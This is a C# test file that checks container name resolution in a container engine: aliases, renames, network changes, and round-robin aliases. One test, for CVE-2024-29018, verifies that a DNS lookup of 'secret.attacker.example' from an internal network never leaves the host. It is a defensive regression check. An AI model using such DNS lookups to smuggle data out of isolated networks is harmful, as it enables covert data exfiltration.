using static ContainerTools.Engine.Tests.Networks.ConnectionTests;

namespace ContainerTools.Engine.Tests.Networks;

/// <summary>How containers find one another by name.</summary>
public class NameTests(NetworkFixture host) : IClassFixture<NetworkFixture>
{
    [Fact]
    public async Task A_container_is_found_by_name_alias_host_name_and_short_id_on_networks_in_common_only()
    {
        host.Networks.Create(new NetworkSpec { Name = "shop" });
        host.Networks.Create(new NetworkSpec { Name = "elsewhere" });
        var db = await host.StartAsync("db", spec => spec with { HostName = "postgres", Networks = [new NetworkAttachment { Name = "shop", Alias = ["store", "Data.Base"] }] });
        await host.StartAsync("web", On("shop"));
        await host.StartAsync("stranger", On("elsewhere"));

        foreach (var name in new[] { "db", "DB", "db.shop", "store", "data.base", "postgres", db.Id[..12] })
        {
            var (code, output) = await host.ExecAsync("web", $"getent ahostsv4 {name}");
            Assert.True(code == 0 && output.StartsWith(db.IPAddress! + " ", StringComparison.Ordinal), $"{name}: {output}");
        }

        Assert.StartsWith(db.Endpoint[0].IPv6Address!, (await host.ExecAsync("web", "getent ahostsv6 db")).Output);
        Assert.Contains("db.shop", (await host.ExecAsync("web", $"getent hosts {db.IPAddress}")).Output);
        Assert.NotEqual(0, (await host.ExecAsync("stranger", "getent hosts db")).Code);
        Assert.NotEqual(0, (await host.ExecAsync("stranger", $"getent hosts {db.IPAddress}")).Code);
    }

    [Fact]
    public async Task Names_follow_containers_as_they_come_go_and_are_renamed()
    {
        host.Networks.Create(new NetworkSpec { Name = "lively" });
        await host.StartAsync("watcher", On("lively"));
        var other = await host.StartAsync("caterpillar", On("lively"));
        Assert.Equal(0, (await host.ExecAsync("watcher", "getent hosts caterpillar")).Code);

        host.Containers.Rename("caterpillar", "butterfly");
        Assert.Equal(0, (await host.ExecAsync("watcher", "getent hosts butterfly")).Code);
        Assert.NotEqual(0, (await host.ExecAsync("watcher", "getent hosts caterpillar")).Code);

        host.Networks.Disconnect("butterfly", "lively");
        Assert.NotEqual(0, (await host.ExecAsync("watcher", "getent hosts butterfly")).Code);
        host.Networks.Connect("butterfly", new NetworkAttachment { Name = "lively", Alias = ["insect"] });
        Assert.Equal(0, (await host.ExecAsync("watcher", "getent hosts insect")).Code);

        await host.Containers.StopAsync(other.Id, TimeSpan.Zero, null, TestContext.Current.CancellationToken);
        Assert.NotEqual(0, (await host.ExecAsync("watcher", "getent hosts butterfly")).Code);
    }

    [Fact]
    public async Task A_container_learns_the_names_of_a_network_that_it_is_connected_to_while_it_runs()
    {
        host.Networks.Create(new NetworkSpec { Name = "first" });
        host.Networks.Create(new NetworkSpec { Name = "second" });
        await host.StartAsync("joiner", On("first"));
        await host.StartAsync("resident", On("second"));
        Assert.NotEqual(0, (await host.ExecAsync("joiner", "getent hosts resident")).Code);
        host.Networks.Connect("joiner", new NetworkAttachment { Name = "second" });
        await EventuallyAsync(async () => (await host.ExecAsync("joiner", "getent hosts resident")).Code == 0);
        host.Networks.Disconnect("joiner", "second");
        await EventuallyAsync(async () => (await host.ExecAsync("joiner", "getent hosts resident")).Code != 0);
    }

    [Fact]
    public async Task Several_containers_of_one_alias_take_turns()
    {
        host.Networks.Create(new NetworkSpec { Name = "pool" });
        var workers = await Task.WhenAll(Enumerable.Range(1, 3).Select(number => host.StartAsync($"worker-{number}", spec => spec with { Networks = [new NetworkAttachment { Name = "pool", Alias = ["worker"] }] })));
        await host.StartAsync("client", On("pool"));
        var first = new HashSet<string>();
        for (var round = 0; round < 12; round++)
        {
            var lines = (await host.ExecAsync("client", "busybox nslookup -type=a worker 127.0.0.11 | busybox grep Address | busybox tail -n +2 | busybox cut -d' ' -f2")).Output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
            Assert.Equal(workers.Select(worker => worker.IPAddress).Order(), lines.Order());
            first.Add(lines[0]);
        }

        Assert.Equal(3, first.Count);
    }

    [Fact]
    public async Task A_server_in_a_container_may_listen_on_port_53_of_all_addresses()
    {
        host.Networks.Create(new NetworkSpec { Name = "own-dns" });
        await host.StartAsync("named", On("own-dns"), "socat", "UDP4-RECVFROM:53,fork", "EXEC:busybox cat");
        Assert.Equal(0, (await host.ExecAsync("named", "getent hosts named.own-dns")).Code);
        Assert.Contains(":0035 ", (await host.ExecAsync("named", "busybox cat /proc/net/udp")).Output);
    }

    [Fact]
    public async Task CVE_2024_29018_from_an_internal_network_no_question_leaves_the_host()
    {
        host.Networks.Create(new NetworkSpec { Name = "sealed", Internal = true });
        await host.StartAsync("leaker", spec => On("sealed")(spec) with { Dns = [NetworkFixture.NeighbourAddress] });
        await host.StartAsync("open", spec => spec with { Dns = [NetworkFixture.NeighbourAddress] });
        using var server = host.Neighbour.Run(() =>
        {
            var socket = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Dgram, System.Net.Sockets.ProtocolType.Udp) { ReceiveTimeout = 1500 };
            socket.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Any, 53));
            return socket;
        });
        Assert.NotEqual(0, (await host.ExecAsync("leaker", "getent hosts secret.attacker.example")).Code);
        Assert.Equal(0, server.Available);

        // Control: from a network that leads outside the question arrives.
        var asking = host.ExecAsync("open", "busybox timeout 2 getent hosts secret.attacker.example");
        Assert.True(server.Receive(new byte[512]) > 12);
        await asking;
    }

    [Fact]
    public async Task A_network_without_a_resolver_has_the_servers_asked_for()
    {
        host.Networks.Create(new NetworkSpec { Name = "plain", NoDns = true });
        await host.StartAsync("plain-one", spec => On("plain")(spec) with { Dns = ["192.0.2.53"] });
        Assert.StartsWith("nameserver 192.0.2.53\n", (await host.ExecAsync("plain-one", "busybox cat /etc/resolv.conf")).Output);
    }

    private static async Task EventuallyAsync(Func<Task<bool>> condition)
    {
        for (var attempt = 0; attempt < 50; attempt++)
        {
            if (await condition())
            {
                return;
            }

            await Task.Delay(40, TestContext.Current.CancellationToken);
        }

        Assert.Fail("It did not come about.");
    }
}
